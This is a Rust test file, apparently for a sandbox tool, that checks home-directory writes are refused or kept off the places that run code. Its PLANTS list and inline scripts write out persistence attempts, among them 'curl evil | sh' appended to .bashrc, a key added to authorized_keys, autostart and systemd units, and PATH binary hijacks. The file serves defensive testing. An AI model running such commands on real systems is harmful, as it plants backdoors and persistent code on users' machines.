//! A writable home: a writable root that is, or holds, the home
//! directory is refused, with the reason and what to do; with `--allow-home-write`, home's
//! top level, its hidden files and the places holding code stay read-only and only its
//! data is writable (homesplit/); a part of home made writable by name keeps the places
//! that run code pinned. Each with its control.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::support::{git, netbox_bin, stderr, stdout, Run, TestDir};

#[test]
fn a_writable_root_that_is_or_holds_home_is_refused() {
    let dir = TestDir::new("home-refused");
    let run = Run::new(&dir);
    let ws = run.workspace.display().to_string();
    // The workspace is home; a --write of home; a workspace that holds home.
    let beside = dir.join("home").display().to_string();
    let cases = [
        (ws.clone(), vec![], "is your home directory"),
        (
            beside.clone(),
            vec!["--write".to_owned(), beside.clone()],
            "is your home directory",
        ),
        (
            format!("{ws}/users/me"),
            vec![],
            "holds your home directory",
        ),
    ];
    std::fs::create_dir_all(&beside).unwrap();
    std::fs::create_dir_all(run.workspace.join("users/me")).unwrap();
    for (home, args, said) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = Run::new(&dir)
            .args_from(&args)
            .env("HOME", home.as_str())
            .sh("touch planted");
        assert_eq!(out.status.code(), Some(125), "{home}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(said), "{home}: {err}");
        assert!(err.contains("--allow-home-write"), "{err}");
        assert_eq!(err.lines().count(), 2, "one line and a hint: {err}");
        assert!(!run.workspace.join("planted").exists());
    }
    // Control: a workspace inside home runs.
    let out = Run::new(&dir)
        .arg("--quiet")
        .env("HOME", dir.path.display().to_string())
        .sh("touch planted");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(run.workspace.join("planted").exists());
}

/// Every attempt to plant code, each of which must fail with EROFS and leave nothing.
const PLANTS: &[&str] = &[
    "echo 'curl evil | sh' >> .bashrc",
    "echo 'curl evil | sh' > .profile",
    "echo 'curl evil | sh' > .bash_profile",
    "echo 'curl evil | sh' > .bash_aliases",
    "echo 'curl evil | sh' > .zshenv",
    "echo 'ssh-ed25519 AAAA x' >> .ssh/authorized_keys",
    "echo 'script-shell=/tmp/x' >> .npmrc",
    "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
    "mkdir -p .config/systemd/user && echo x > .config/systemd/user/x.service",
    "mkdir -p .config/user-tmpfiles.d && echo 'w+ %h/.bashrc' > .config/user-tmpfiles.d/x.conf",
    "echo x > .config/app/settings.py",
    "mkdir -p .local/bin && echo x > .local/bin/ls",
    "mkdir -p .local/share/dbus-1/services && echo x > .local/share/dbus-1/services/x.service",
    "mkdir -p .local/lib/python3/site-packages && echo x > .local/lib/python3/site-packages/usercustomize.py",
    "mkdir -p .cargo/bin && echo x > .cargo/bin/cargo-x",
    "echo '[alias]' > .gitconfig",
    "mkdir -p node_modules/bufferutil && echo x > node_modules/bufferutil/index.js",
    "echo x > readline.py",
    "mkdir -p bin && echo x > bin/git",
    "echo x > tools/bin/git",
    "echo x > tools/readme",
    "echo 'curl evil | sh' >> dotfiles/bashrc",
    "mkdir -p .local/state/nix/profiles && ln -sfn /tmp .local/state/nix/profiles/profile",
    "echo x > .npm/_cacache/index",
    "echo x > newfile",
    "mv notes.txt moved.txt",
    "echo x >> .local/state/netbox/sessions/x.jsonl",
];

#[test]
fn with_allow_home_write_only_data_in_home_is_writable() {
    TestDir::remove_leftovers_outside_tmp("home-split");
    // Outside /tmp: a home under the host's /tmp would be replaced by the private one.
    let dir = TestDir::outside_tmp("home-split");
    let home = dir.join("ws");
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string())
        .env(
            "PATH",
            format!("{}:/usr/bin:/bin", home.join("tools/bin").display()),
        );
    for d in [
        ".ssh",
        ".config/app",
        ".local/share",
        ".local/state/bash",
        ".local/state/nix",
        ".npm/_cacache",
        "project",
        "tools/bin",
        "dotfiles",
    ] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    std::fs::write(home.join(".ssh/authorized_keys"), "mine\n").unwrap();
    std::fs::write(home.join(".npmrc"), "registry=x\n").unwrap();
    // Dotfiles kept in ~/dotfiles and linked from home: ~/dotfiles holds code.
    std::fs::write(home.join("dotfiles/bashrc"), "# mine\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/bashrc", home.join(".bashrc")).unwrap();
    std::fs::write(home.join(".bash_history"), "").unwrap();
    std::fs::write(home.join("notes.txt"), "notes\n").unwrap();
    let before = listing(&home);
    let script: String = PLANTS
        .iter()
        .map(|p| format!("({p}) 2>/dev/null && echo 'PLANTED: {p}';\n"))
        .collect::<String>()
        + "echo more >> notes.txt && echo x > project/main.rs \
           && echo x > .local/state/bash/history && echo ls >> .bash_history && echo CONTROL";
    let out = run.sh(&script);
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert_eq!(out.status.code(), Some(0));
    // Nothing planted, nothing left behind; the controls there.
    let mut expected = before.clone();
    expected.extend(["./.local/state/bash/history", "./project/main.rs"].map(String::from));
    expected.sort();
    assert_eq!(listing(&home), expected);
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
        "mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("dotfiles/bashrc")).unwrap(),
        "# mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("notes.txt")).unwrap(),
        "notes\nmore\n"
    );
    let denied = run
        .events()
        .into_iter()
        .filter(|e| e["type"] == "write_denied")
        .count();
    assert!(denied >= PLANTS.len() - 1, "{denied} write_denied records");
}

/// `--write` of a part of home that holds places that run code (a shared configuration
/// directory needs --allow-home-write): those places stay pinned, the rest is writable.
#[test]
fn a_part_of_home_made_writable_keeps_its_code_places_pinned() {
    TestDir::remove_leftovers_outside_tmp("home-part");
    let dir = TestDir::outside_tmp("home-part");
    let home = dir.path.clone();
    std::fs::create_dir_all(home.join(".config/app")).unwrap();
    std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
    let config = home.join(".config").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--allow-home-write", "--write", &config])
        .env("HOME", home.display().to_string())
        .sh(
            "echo x > ~/.config/autostart/x.desktop 2>/dev/null && echo PLANTED; \
             (mkdir -p ~/.config/user-tmpfiles.d && echo x > ~/.config/user-tmpfiles.d/x.conf) 2>/dev/null && echo PLANTED2; \
             echo x > ~/.config/app/state && echo CONTROL",
        );
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(home.join(".config/app/state").exists());
    assert!(!home.join(".config/autostart/x.desktop").exists());
    assert!(
        !home.join(".config/user-tmpfiles.d").exists(),
        "placeholder left behind"
    );
}

/// The home the password database names counts as much as `$HOME` (sshd, systemd and
/// the desktop go by it).
#[test]
fn the_account_home_counts_even_when_home_says_otherwise() {
    let uid = nix::unistd::getuid();
    let Some(account_home) = nix::unistd::User::from_uid(uid)
        .ok()
        .flatten()
        .map(|u| u.dir)
        .filter(|d| d.is_dir() && d != std::path::Path::new("/"))
    else {
        // uid 65534's home (/nonexistent) does not exist: nothing to refuse there. The
        // same check with $HOME is a_writable_root_that_is_or_holds_home_is_refused.
        return;
    };
    let dir = TestDir::new("home-account");
    let marker = account_home.join(".netbox-e2e-should-not-exist");
    let _ = std::fs::remove_file(&marker);
    let out = Command::new(netbox_bin())
        .args(["--quiet", "--log"])
        .arg(dir.join("events.jsonl"))
        .args(["--", "touch", ".netbox-e2e-should-not-exist"])
        .current_dir(&account_home)
        .env("HOME", dir.path.display().to_string())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is your home directory"),
        "{}",
        stderr(&out)
    );
    let planted = marker.exists();
    let _ = std::fs::remove_file(&marker);
    assert!(!planted, "the run wrote into the account's home");
}

#[test]
fn the_default_log_works_and_home_gets_no_placeholders() {
    TestDir::remove_leftovers_outside_tmp("home-default-log");
    let dir = TestDir::outside_tmp("home-default-log");
    let home = dir.join("ws");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".profile"), "export FROM_PROFILE=yes\n").unwrap();
    let before = listing(&home);
    // No --log: the default, under home's .local/state, which stays read-only.
    let netbox = Command::new(netbox_bin())
        .args(["--quiet", "--allow-home-write", "--", "bash", "-c"])
        .arg(
            "ls .local/state/netbox/sessions/*.jsonl >/dev/null && echo LOG; \
             for f in .local/state/netbox/sessions/*.jsonl; do echo x >> $f 2>/dev/null && echo REWROTE; done; \
             sleep 2; echo DONE",
        )
        .current_dir(&home)
        .env("HOME", &home)
        .env_remove("XDG_STATE_HOME")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(800));
    // During the run home is as it was: no placeholder shadows anything (a login shell
    // started meanwhile still reads ~/.profile).
    let during: Vec<String> = listing(&home)
        .into_iter()
        .filter(|p| !p.starts_with("./.local"))
        .collect();
    assert_eq!(during, before);
    let login = Command::new("bash")
        .args(["-lc", "echo \"profile: $FROM_PROFILE\""])
        .env("HOME", &home)
        .output()
        .unwrap();
    assert_eq!(stdout(&login), "profile: yes\n", "{}", stderr(&login));
    let out = netbox.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "LOG\nDONE\n");
    let sessions = home.join(".local/state/netbox/sessions");
    let logs: Vec<_> = std::fs::read_dir(&sessions)
        .unwrap()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "jsonl"))
        .collect();
    assert_eq!(logs.len(), 1);
    let text = std::fs::read_to_string(logs[0].path()).unwrap();
    assert!(
        text.lines().last().unwrap().contains("session_end"),
        "{text}"
    );
}

/// Every path under `dir`, relative (`./x`), sorted.
fn listing(dir: &Path) -> Vec<String> {
    let out = Command::new("find")
        .arg(".")
        .arg("-mindepth")
        .arg("1")
        .current_dir(dir)
        .output()
        .unwrap();
    let mut paths: Vec<String> = stdout(&out).lines().map(String::from).collect();
    paths.sort();
    paths
}

/// Another name for home (a bind mount of it) holds home as much as its own path does;
/// and a shared configuration directory of home is refused like home itself.
#[test]
fn home_by_another_name_and_shared_config_dirs_are_refused() {
    let dir = TestDir::outside_tmp("home-alias");
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".config/app")).unwrap();
    let config = home.join(".config").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--write", &config])
        .env("HOME", home.display().to_string())
        .sh("touch ~/.config/x");
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("settings or data of every program"),
        "{}",
        stderr(&out)
    );
    // Control: one program's directory is fine.
    let app = home.join(".config/app").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--write", &app])
        .env("HOME", home.display().to_string())
        .sh("touch ~/.config/app/x && echo OK");
    assert_eq!(stdout(&out), "OK\n", "{}", stderr(&out));

    // A bind mount needs root (or a mount namespace of one's own): as root only.
    if !nix::unistd::geteuid().is_root() {
        return;
    }
    let alias = dir.join("alias");
    std::fs::create_dir_all(&alias).unwrap();
    let mounted = Command::new("mount")
        .args(["--bind"])
        .arg(&home)
        .arg(&alias)
        .status()
        .unwrap();
    assert!(mounted.success());
    let out = Command::new(netbox_bin())
        .args(["--quiet", "--log"])
        .arg(dir.join("alias.jsonl"))
        .args(["--", "sh", "-c", "echo x > .config/autostart.desktop"])
        .current_dir(&alias)
        .env("HOME", &home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let _ = Command::new("umount").arg(&alias).status();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("your home directory"),
        "{}",
        stderr(&out)
    );
    assert!(!home.join(".config/autostart.desktop").exists());
}

/// An ordinary home: hundreds of entries (each a writable root: the probe's report stays
/// small), one the caller cannot write (left read-only rather than failing the probe).
#[test]
fn a_home_with_many_entries_and_unwritable_ones_runs() {
    TestDir::remove_leftovers_outside_tmp("home-many");
    let dir = TestDir::outside_tmp("home-many");
    let home = dir.join("ws");
    for i in 0..600 {
        std::fs::create_dir_all(home.join(format!("d{i}"))).unwrap();
    }
    let locked = home.join("locked");
    std::fs::create_dir_all(&locked).unwrap();
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o555)).unwrap();
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string());
    let out = run.sh("echo x > d599/file && echo CONTROL");
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "CONTROL\n");
    assert!(home.join("d599/file").exists());
}

/// What code is reached through stays read-only under --allow-home-write: entries named
/// by load paths (as lists, with `~`), entries that deep links (systemd's own `enable`
/// links) or dangling links lead into; a shared directory reached through a link is
/// refused like the real one. Control: an entry nothing leads into is writable.
#[test]
fn entries_code_is_reached_through_stay_read_only() {
    TestDir::remove_leftovers_outside_tmp("home-links");
    let dir = TestDir::outside_tmp("home-links");
    let home = dir.join("ws");
    for d in [
        "projects/svc",
        "pylib",
        "gowork",
        "scripts",
        "plain",
        ".config/systemd/user/default.target.wants",
        "dotfiles/config",
    ] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    std::os::unix::fs::symlink(
        home.join("projects/svc/svc.service"),
        home.join(".config/systemd/user/default.target.wants/svc.service"),
    )
    .unwrap();
    // A link to a dotfiles checkout not cloned yet.
    std::os::unix::fs::symlink("../later/nvim", home.join(".config/nvim")).unwrap();
    std::fs::create_dir_all(home.join("later")).unwrap();
    let h = home.display().to_string();
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", &h)
        .env("PYTHONPATH", format!("{h}/pylib"))
        .env("GOPATH", format!("/nonexistent:{h}/gowork"))
        .env(
            "PATH",
            format!(
                "~/scripts:{}/apps2/bin:/usr/bin:/bin",
                dir.join("homelink").display()
            ),
        )
        .env("EDITOR", "~/apps/nvim.AppImage")
        // Other spellings of home: literal $HOME (a shell expands it), `//`, a symlink.
        .env("VISUAL", "$HOME/edtools/ed")
        .env("PAGER", format!("{}//ws/dbl/bin/x", dir.path.display()));
    std::os::unix::fs::symlink(&home, dir.join("homelink")).unwrap();
    for d in ["apps", "apps2/bin", "edtools", "dbl/bin"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    let out = run.sh(
        "for d in projects/svc pylib gowork scripts later apps apps2/bin edtools dbl/bin; do \
           (echo x > $d/planted) 2>/dev/null && echo PLANTED $d; done; \
         echo x > plain/ok && echo CONTROL",
    );
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));

    // A shared directory reached through a link is refused like the real one.
    let linked = dir.join("linked-home");
    std::fs::create_dir_all(linked.join("dotfiles/config/autostart")).unwrap();
    std::fs::create_dir_all(linked.join("ws")).unwrap();
    std::os::unix::fs::symlink("dotfiles/config", linked.join(".config")).unwrap();
    let config = linked.join(".config").display().to_string();
    let out = Command::new(netbox_bin())
        .args(["--quiet", "--log"])
        .arg(dir.join("linked.jsonl"))
        .args(["--write", &config, "--", "touch", "x"])
        .current_dir(linked.join("ws"))
        .env("HOME", &linked)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("settings or data of every program"),
        "{}",
        stderr(&out)
    );
}

/// A dotfile kept as a hard link in `~/dotfiles` (or a program of `~/bin` in another
/// entry) is written through either name: the entry holding the other name stays
/// read-only, as one a symlink leads into does.
#[test]
fn entries_holding_another_name_of_a_dotfile_stay_read_only() {
    TestDir::remove_leftovers_outside_tmp("home-hardlinks");
    let dir = TestDir::outside_tmp("home-hardlinks");
    let home = dir.join("ws");
    for d in ["dotfiles/shell", "tools", "bin", "plain", ".config/app"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    for (file, linked) in [
        (".bashrc", "dotfiles/shell/bashrc"),
        (".config/app/init", "dotfiles/init"),
        ("bin/tool", "tools/tool"),
    ] {
        std::fs::write(home.join(file), "# kept\n").unwrap();
        std::fs::hard_link(home.join(file), home.join(linked)).unwrap();
    }
    let h = home.display().to_string();
    let out = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", &h)
        .sh(
            "for f in dotfiles/shell/bashrc dotfiles/init tools/tool; do \
               (echo planted >> $f) 2>/dev/null && echo PLANTED $f; done; \
             echo x > plain/ok && echo CONTROL",
        );
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is another name (a hard link) of"),
        "{}",
        stderr(&out)
    );
    // A workspace inside such an entry is a root of its own: the other name in it stays
    // read-only all the same.
    let out = Command::new(netbox_bin())
        .args(["--quiet", "--allow-home-write", "--log"])
        .arg(dir.join("inside.jsonl"))
        .arg("--write")
        .arg(&home)
        .args([
            "--",
            "sh",
            "-c",
            "(echo planted >> shell/bashrc) 2>/dev/null && echo PLANTED; touch ok && echo CONTROL",
        ])
        .current_dir(home.join("dotfiles"))
        .env("HOME", &home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    for file in [".bashrc", ".config/app/init", "bin/tool"] {
        assert_eq!(
            std::fs::read_to_string(home.join(file)).unwrap(),
            "# kept\n"
        );
    }
}

/// A part of home made writable that is a link out of home (`~/tools` to
/// `/data/tools`), with a directory of it on PATH: that directory is pinned where the
/// link leads, the rest of it writable.
#[test]
fn a_linked_part_of_home_keeps_its_path_directory_pinned() {
    TestDir::remove_leftovers_outside_tmp("home-linked");
    let dir = TestDir::outside_tmp("home-linked");
    let home = dir.join("home");
    let data = dir.join("data/tools");
    std::fs::create_dir_all(data.join("bin")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    std::os::unix::fs::symlink(&data, home.join("tools")).unwrap();
    let tools = home.join("tools").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--write", &tools])
        .env("HOME", home.display().to_string())
        .env("PATH", format!("{tools}/bin:/usr/bin:/bin"))
        .sh("echo x > ~/tools/bin/git 2>/dev/null && echo PLANTED; \
             echo x > ~/tools/readme && echo CONTROL");
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(data.join("readme").exists());
    assert!(!data.join("bin/git").exists());
}

/// A directory on PATH that a link inside the root leads to (`~/tools/bin` to `v2/bin`):
/// pinned where it is, and the link watched, since CMD may put a directory of its own in
/// its place.
#[test]
fn a_link_in_a_root_to_a_path_directory_is_watched_as_well() {
    TestDir::remove_leftovers_outside_tmp("home-link-in-root");
    let dir = TestDir::outside_tmp("home-link-in-root");
    let home = dir.join("home");
    std::fs::create_dir_all(home.join("tools/v2/bin")).unwrap();
    std::os::unix::fs::symlink("v2/bin", home.join("tools/bin")).unwrap();
    let tools = home.join("tools").display().to_string();
    let run = Run::new(&dir)
        .args_from(&["--write", &tools])
        .env("HOME", home.display().to_string())
        .env("PATH", format!("{tools}/bin:/usr/bin:/bin"));
    // Control: a run that leaves it alone says nothing.
    let out = run.sh("echo x > ~/tools/readme && echo CONTROL");
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    let out = run.sh("echo x > ~/tools/bin/git 2>/dev/null && echo PLANTED; \
         rm ~/tools/bin && mkdir ~/tools/bin && echo x > ~/tools/bin/git && echo SWAPPED");
    assert_eq!(stdout(&out), "SWAPPED\n", "{}", stderr(&out));
    assert!(!home.join("tools/v2/bin/git").exists());
    let err = stderr(&out);
    assert!(
        err.contains("warning") && err.contains(&format!("{tools}/bin ")),
        "{err}"
    );
}

/// An activated venv in a workspace under home (`~/proj/.venv/bin` on PATH,
/// `VIRTUAL_ENV`): `pip install` writes there, so it is watched, not pinned, its
/// directory on PATH as in a workspace anywhere else and the venv whole; a directory on
/// PATH in the workspace that is no environment (`~/proj/bin`) stays pinned.
#[test]
fn an_activated_venv_in_a_workspace_in_home_takes_installs() {
    TestDir::remove_leftovers_outside_tmp("home-venv");
    let dir = TestDir::outside_tmp("home-venv");
    let run = Run::new(&dir);
    let venv = run.workspace.join(".venv");
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::fs::create_dir_all(run.workspace.join("bin")).unwrap();
    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::os::unix::fs::symlink("/usr/bin/python3", venv.join("bin/python")).unwrap();
    let project_bin = run.workspace.join("bin");
    let run = run
        .env("HOME", dir.path.display().to_string())
        .env("VIRTUAL_ENV", venv.display().to_string())
        .env(
            "PATH",
            format!(
                "{}:{}:/usr/bin:/bin",
                venv.join("bin").display(),
                project_bin.display()
            ),
        );
    let out = run.sh("echo x > bin/git 2>/dev/null && echo PLANTED; \
         mkdir -p .venv/lib/site && echo x > .venv/lib/site/mod.py && \
         echo x > .venv/bin/tool && echo INSTALLED");
    assert_eq!(stdout(&out), "INSTALLED\n", "{}", stderr(&out));
    assert!(!run.workspace.join("bin/git").exists());
    let err = stderr(&out);
    assert!(
        err.contains("warning") && err.contains(".venv/bin (") && err.contains("1 program in it"),
        "{err}"
    );
    // What the venv's python loads (a `.pth` file) is said too.
    assert!(
        err.contains("the environment") && err.contains("files in it made or changed"),
        "{err}"
    );
}

/// The workspace reached through a link in home (`~/work` to a directory elsewhere),
/// with `node_modules/.bin` and `.venv/bin` on PATH before they exist: the run goes on,
/// and CMD makes them (`npm install`, `python -m venv`).
#[test]
fn missing_path_directories_of_a_linked_workspace_are_left_to_make() {
    TestDir::remove_leftovers_outside_tmp("home-linked-ws");
    let dir = TestDir::outside_tmp("home-linked-ws");
    let home = dir.join("home");
    let data = dir.join("data");
    std::fs::create_dir_all(data.join("proj")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    std::os::unix::fs::symlink(&data, home.join("work")).unwrap();
    let proj = home.join("work/proj").display().to_string();
    let mut run = Run::new(&dir)
        .arg("--quiet")
        .env("HOME", home.display().to_string())
        .env(
            "PATH",
            format!("{proj}/node_modules/.bin:{proj}/.venv/bin:/usr/bin:/bin"),
        );
    run.workspace = home.join("work/proj");
    let out = run.sh(
        "mkdir -p node_modules/.bin && echo x > node_modules/.bin/x && \
         mkdir -p .venv/bin && echo x > .venv/bin/y && echo MADE",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "MADE\n", "{}", stderr(&out));
    assert!(data.join("proj/node_modules/.bin/x").exists());
}

/// A place the environment names under home, in a part of home made writable, below a
/// directory that is missing too (`~/real/a/bin` on PATH, `EDITOR=~/real/b/ed`): no
/// placeholder can hold it without stopping CMD's own work, so it is watched, and said
/// when the run ends.
#[test]
fn a_code_place_below_a_missing_directory_is_watched() {
    TestDir::remove_leftovers_outside_tmp("home-missing-dir");
    let dir = TestDir::outside_tmp("home-missing-dir");
    let home = dir.join("home");
    std::fs::create_dir_all(home.join("real")).unwrap();
    let real = home.join("real").display().to_string();
    let run = Run::new(&dir)
        .args_from(&["--write", &real])
        .env("HOME", home.display().to_string())
        .env("EDITOR", format!("{real}/b/ed"))
        .env("PATH", format!("{real}/a/bin:/usr/bin:/bin"));
    // Control: the run goes on, and one that makes neither says nothing.
    let out = run.sh("echo x > ~/real/notes && echo CONTROL");
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    let out = run.sh("mkdir -p ~/real/b && echo x > ~/real/b/ed && echo MADE");
    assert_eq!(stdout(&out), "MADE\n", "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("warning") && err.contains(&format!("{real}/b/ed")),
        "{err}"
    );
}

/// A link inside a root on the way to what the environment names, leading out of every
/// root (`~/tools/bin` to `/opt/tools/bin`) or into a venv outside the workspace
/// (`~/proj/.venv` to `~/.cache/venvs/p`): CMD can put a directory of its own in the
/// link's place, and that is said when the run ends.
#[test]
fn a_link_in_a_root_swapped_for_a_directory_is_said_wherever_it_led() {
    TestDir::remove_leftovers_outside_tmp("home-link-swap");
    let dir = TestDir::outside_tmp("home-link-swap");
    let home = dir.join("home");
    let outside = dir.join("opt/tools/bin");
    let venv = home.join(".cache/venvs/p");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::create_dir_all(home.join("tools")).unwrap();
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::os::unix::fs::symlink("/usr/bin/python3", venv.join("bin/python")).unwrap();
    std::os::unix::fs::symlink(&outside, home.join("tools/bin")).unwrap();
    let run = Run::new(&dir);
    std::os::unix::fs::symlink(&venv, run.workspace.join(".venv")).unwrap();
    let tools = home.join("tools").display().to_string();
    let ws = run.workspace.display().to_string();
    let run = run
        .args_from(&["--write", &tools])
        .env("HOME", home.display().to_string())
        .env("VIRTUAL_ENV", format!("{ws}/.venv"))
        .env("PATH", format!("{ws}/.venv/bin:{tools}/bin:/usr/bin:/bin"));
    // Control: a run that leaves them alone says nothing.
    let out = run.sh("echo x > ~/tools/readme && echo CONTROL");
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    let out = run.sh(
        "rm ~/tools/bin && mkdir ~/tools/bin && echo x > ~/tools/bin/ls && \
         rm .venv && mkdir -p .venv/bin && echo x > .venv/bin/ls && echo SWAPPED",
    );
    assert_eq!(stdout(&out), "SWAPPED\n", "{}", stderr(&out));
    let err = stderr(&out);
    for swapped in [format!("{tools}/bin"), format!("{ws}/.venv")] {
        assert!(
            err.lines()
                .any(|l| l.contains("warning") && l.contains(&swapped)),
            "{swapped}: {err}"
        );
    }
}

/// What a repository ships cannot make a place the environment names an environment: a
/// `pyvenv.cfg` (and `bin/python`) at the workspace's top leaves `LESSOPEN`'s script and
/// `~/proj/bin` pinned. A variable naming a link to a file there (`PYTHONSTARTUP`) pins the
/// file, and one naming a venv not made yet lets CMD make it.
#[test]
fn a_shipped_pyvenv_cfg_unpins_nothing_and_named_files_and_missing_venvs_work() {
    TestDir::remove_leftovers_outside_tmp("home-shipped-venv");
    let dir = TestDir::outside_tmp("home-shipped-venv");
    let run = Run::new(&dir);
    let ws = run.workspace.clone();
    for d in ["bin", "scripts", "dotfiles"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::write(ws.join("scripts/lesspipe.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(ws.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::os::unix::fs::symlink("/usr/bin/python3", ws.join("bin/python")).unwrap();
    std::fs::write(ws.join("dotfiles/pythonrc"), "# mine\n").unwrap();
    std::os::unix::fs::symlink(ws.join("dotfiles/pythonrc"), dir.join(".pythonrc")).unwrap();
    let w = ws.display().to_string();
    let run = run
        .env("HOME", dir.path.display().to_string())
        .env("LESSOPEN", format!("| {w}/scripts/lesspipe.sh %s"))
        .env("PYTHONSTARTUP", dir.join(".pythonrc").display().to_string())
        .env("VIRTUAL_ENV", format!("{w}/.venv"))
        .env("PATH", format!("{w}/.venv/bin:{w}/bin:/usr/bin:/bin"));
    let out = run.sh(
        "echo x >> scripts/lesspipe.sh 2>/dev/null && echo PLANTED1; \
         echo x > bin/ls 2>/dev/null && echo PLANTED2; \
         echo x >> dotfiles/pythonrc 2>/dev/null && echo PLANTED3; \
         python3 -m venv --without-pip .venv && echo x > scripts/other && echo CONTROL",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(ws.join(".venv/pyvenv.cfg").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("dotfiles/pythonrc")).unwrap(),
        "# mine\n"
    );
}

/// A file a variable names in a venv (`LESSOPEN` naming the venv's `pygmentize`) is
/// pinned, and the venv it runs from watched whole; a dangling link and a FIFO named by
/// variables stop nothing, and what the link comes to lead to is said.
#[test]
fn named_files_in_venvs_named_roots_and_odd_files_are_watched() {
    TestDir::remove_leftovers_outside_tmp("home-named-odd");
    let dir = TestDir::outside_tmp("home-named-odd");
    let run = Run::new(&dir);
    let ws = run.workspace.clone();
    let venv = ws.join(".venv");
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::fs::create_dir_all(venv.join("lib/site-packages")).unwrap();
    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::os::unix::fs::symlink("/usr/bin/python3", venv.join("bin/python")).unwrap();
    std::fs::write(venv.join("bin/pygmentize"), "#!/bin/sh\n").unwrap();
    std::os::unix::fs::symlink("newbin", ws.join("bin")).unwrap();
    let fifo = ws.join("editor.fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let w = ws.display().to_string();
    let run = run
        .env("HOME", dir.path.display().to_string())
        .env("LESSOPEN", format!("| {w}/.venv/bin/pygmentize %s"))
        .env("EDITOR", fifo.display().to_string())
        .env("PATH", format!("{w}/bin:/usr/bin:/bin"));
    // Control: the run goes on, quickly, and one that changes nothing says nothing.
    let started = std::time::Instant::now();
    let out = run.sh("echo x > notes && echo CONTROL");
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    assert!(started.elapsed() < Duration::from_secs(20));
    let out = run.sh(
        "echo x >> .venv/bin/pygmentize 2>/dev/null && echo PLANTED; \
